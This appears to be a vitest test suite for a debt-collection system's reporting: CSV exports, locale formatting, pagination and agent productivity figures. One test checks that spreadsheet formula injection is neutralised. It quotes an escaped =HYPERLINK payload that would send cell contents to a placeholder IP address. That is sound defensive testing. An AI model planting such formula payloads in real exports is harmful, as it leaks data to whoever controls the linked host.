// Reports count what happened and say how; an export opens in a spreadsheet as text, whatever people are called.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, expect, test } from "vitest";
import * as gestiones from "#gestiones/service.ts";
import type { GestionId, UserId } from "#kernel/ids.ts";
import { addDays, localDate, startOfDay } from "#kernel/time.ts";
import { newId } from "#platform/new-id.ts";
import { createCsvReader } from "#portfolio/core/csv.ts";
import * as promises from "#promises/service.ts";
import { agentFigures } from "#reporting/core/productivity.ts";
import { type GestionesExport, gestionesCsv } from "#reporting/export.ts";
import * as reports from "#reporting/store.ts";
import { openTestDatabase, seedMandate, type TestDatabase } from "../support/database.ts";
import { gestionOf, type Mandate, promiseOf, seedOwing } from "../support/debts.ts";

const zone = "America/Santiago";
const today = localDate("2026-11-24");
const nine = startOfDay(today, zone) + 9 * 3_600_000;
const day = { from: startOfDay(today, zone), to: startOfDay(addDays(today, 1), zone) };
const names = JSON.parse(
  readFileSync(join(import.meta.dirname, "../../fixtures/names/hostile-debtor-names.json"), "utf8"),
) as string[];
/** PostgreSQL stores no NUL; the import refuses such rows. */
const storable = names.filter((name) => !name.includes("\u0000"));

let city: TestDatabase;
let mandate: Mandate;
beforeAll(async () => {
  city = await openTestDatabase();
  mandate = await seedMandate(city);
});
const inside = <T>(work: Parameters<typeof city.db.inTenant<T>>[1]) => city.db.inTenant(mandate.tenant, work);
const actor = (user: UserId, now: number): gestiones.Actor => ({ tenant: mandate.tenant, user, now });

async function newAgent(name: string, portfolio?: Mandate["portfolio"]): Promise<UserId> {
  const user = newId<UserId>();
  const tenant_id = mandate.tenant;
  await inside(async (tx) => {
    const password = { password_hash: "-", created_at: new Date(0) };
    await tx
      .insertInto("app_user")
      .values({ tenant_id, id: user, username: `u-${user}`, name, role: "agent", ...password })
      .execute();
    await tx
      .insertInto("user_grant")
      .values({ tenant_id, id: newId(), user_id: user, portfolio_id: portfolio ?? mandate.portfolio })
      .execute();
  });
  return user;
}
async function exported(
  user: UserId,
  more: Partial<GestionesExport> & { mandate?: Mandate } = {},
): Promise<{ text: string; rows: string[][] }> {
  const wanted: GestionesExport = {
    ...{ period: day, portfolio: null, profile: "excel", country: "CL", mark: "Exportación N.º 1", ...more },
  };
  let text = "";
  for await (const piece of gestionesCsv(city.db, { tenant: mandate.tenant, user }, wanted))
    text += piece.text;
  const reader = createCsvReader(wanted.profile === "excel" && wanted.country === "CL" ? ";" : ",");
  const records = [reader.push(text.replace("\ufeff", "")), reader.end()].flatMap((part) => part.records);
  return { text, rows: records.map((record) => ("cells" in record ? [...record.cells] : [])) };
}

test("no cell of the export runs as a formula, whatever people are called and whatever agents write", async () => {
  const own = {
    ...(await seedMandate(city, { code: "hostil", tenant: mandate.tenant })),
    tenant: mandate.tenant,
  };
  for (const name of storable) {
    const owing = await seedOwing(city, own, [1000n], { name });
    const input = gestionOf(owing, { note: name });
    await inside((tx) => gestiones.record(tx, actor(own.admin, nine), input));
  }
  for (const profile of ["excel", "machine"] as const) {
    const { rows } = await exported(own.admin, { profile, portfolio: own.portfolio });
    expect(rows).toHaveLength(storable.length + 1);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([22]));
    const cells = rows.slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://203.0.113.9/?d="&A1,"ver")');
    expect(cells).toContain("José Ángel Muñoz Ñancupil");
  }
});

test("the spreadsheet profile speaks the country's language; the machine's speaks ISO", async () => {
  const peru = await seedMandate(city, { code: "lima", tenant: mandate.tenant, country: "PE" });
  const own = { ...peru, tenant: mandate.tenant };
  const owing = await seedOwing(city, own, [123_456n], { currency: "PEN", name: "Ana" });
  await inside((tx) => gestiones.record(tx, actor(own.admin, nine), gestionOf(owing, { note: "a;b" })));
  const chilean = await exported(own.admin, { portfolio: own.portfolio });
  expect(chilean.text.startsWith("\ufefffecha_hora;cartera;gestor;")).toBe(true);
  expect(chilean.rows[1]?.slice(0, 2)).toEqual(["24-11-2026 07:00:00", "Cartera lima"]);
  expect(chilean.rows[1]?.[7]).toBe("1234,56");
  const peruvian = await exported(own.admin, { portfolio: own.portfolio, country: "PE" });
  expect(peruvian.text.startsWith("\ufefffecha_hora,cartera,")).toBe(true);
  const machine = await exported(own.admin, { portfolio: own.portfolio, profile: "machine" });
  expect(machine.text.startsWith("fecha_hora,cartera,")).toBe(true);
  expect(machine.rows[1]?.slice(0, 8)).toEqual([
    "2026-11-24T12:00:00.000Z",
    "Cartera lima",
    "Administración",
    "RUT",
    owing.document,
    "Ana",
    owing.numbers[0],
    "1234.56",
  ]);
});

test("the export holds the period and the mandates of who asks, to the millisecond, over several pages", async () => {
  const own = {
    ...(await seedMandate(city, { code: "paginas", tenant: mandate.tenant })),
    tenant: mandate.tenant,
  };
  const owing = await seedOwing(
    city,
    own,
    Array.from({ length: 50 }, () => 1000n),
  );
  const instants = [day.from - 1, day.from, ...Array.from({ length: 21 }, () => nine), day.to - 1, day.to];
  await inside(async (tx) => {
    for (const at of instants) await gestiones.record(tx, actor(own.admin, at), gestionOf(owing));
  });
  const { rows } = await exported(own.admin, { portfolio: own.portfolio });
  expect(rows).toHaveLength(1 + 50 * 23);
  const stranger = await newAgent("De otra cartera");
  expect((await exported(stranger, { portfolio: own.portfolio })).rows).toHaveLength(1);
});

test("an annulled gestión stays in the export, marked", async () => {
  const own = {
    ...(await seedMandate(city, { code: "anulada", tenant: mandate.tenant })),
    tenant: mandate.tenant,
  };
  const input = gestionOf(await seedOwing(city, own, [1000n]));
  await inside((tx) => gestiones.record(tx, actor(own.admin, nine), input));
  const annulment = { id: newId<GestionId>(), gestion: input.id, reason: "error de dedo" };
  await inside((tx) => gestiones.annul(tx, actor(own.admin, nine + 1), annulment));
  const { rows } = await exported(own.admin, { portfolio: own.portfolio });
  expect(rows.slice(1).map((row) => row.at(-3))).toEqual(["SI"]);
});

test("an agent's day counts talks, gestiones, promises and the time in each state, the current one up to now", async () => {
  const agent = await newAgent("Zoe");
  const seat = newId();
  const tenant_id = mandate.tenant;
  const minutes = (n: number) => new Date(nine + n * 60_000);
  await inside(async (tx) => {
    const seatRow = {
      tenant_id,
      id: seat,
      user_id: agent,
      sip_user: "s",
      sip_password: "-",
      state: "available",
    };
    await tx
      .insertInto("agent_seat")
      .values({ ...seatRow, since: minutes(0), opened_at: minutes(0) })
      .execute();
    const stretches = [
      ["available", 0, 10],
      ["talking", 10, 40],
      ["wrapup", 40, 50],
      ["paused", 50, 60],
      ["available", 60, null],
    ] as const;
    for (const [state, from, to] of stretches) {
      await tx
        .insertInto("agent_state_log")
        .values({
          tenant_id,
          seat_id: seat,
          user_id: agent,
          state,
          from_at: minutes(from),
          to_at: to === null ? null : minutes(to),
        })
        .execute();
    }
  });
  const owing = await seedOwing(city, mandate, [100_000n]);
  const rules = promises.defaultRules(() => new Set());
  const input = promiseOf(owing, 50_000n, addDays(today, 3));
  await inside((tx) => promises.take(tx, actor(agent, nine), input, rules));
  await inside((tx) =>
    gestiones.record(tx, actor(agent, nine), gestionOf(owing, { disposition: "TERCERO_RECADO" })),
  );
  const rows = await inside((tx) => reports.agentDays(tx, day, nine + 70 * 60_000));
  const zoe = rows.find((row) => row.user === agent);
  if (!zoe) throw new Error("the agent worked");
  expect(zoe.promised).toEqual([{ minor: 50_000n, currency: "CLP" }]);
  expect(agentFigures(zoe)).toMatchObject({
    gestiones: 2,
    direct: 1,
    indirect: 1,
    promises: 1,
    promiseRate: 1,
    loggedSeconds: 70 * 60,
    pauseSeconds: 10 * 60,
    talkSeconds: 30 * 60,
    occupancy: 40 / 60,
    gestionesPerHour: 2,
  });
});
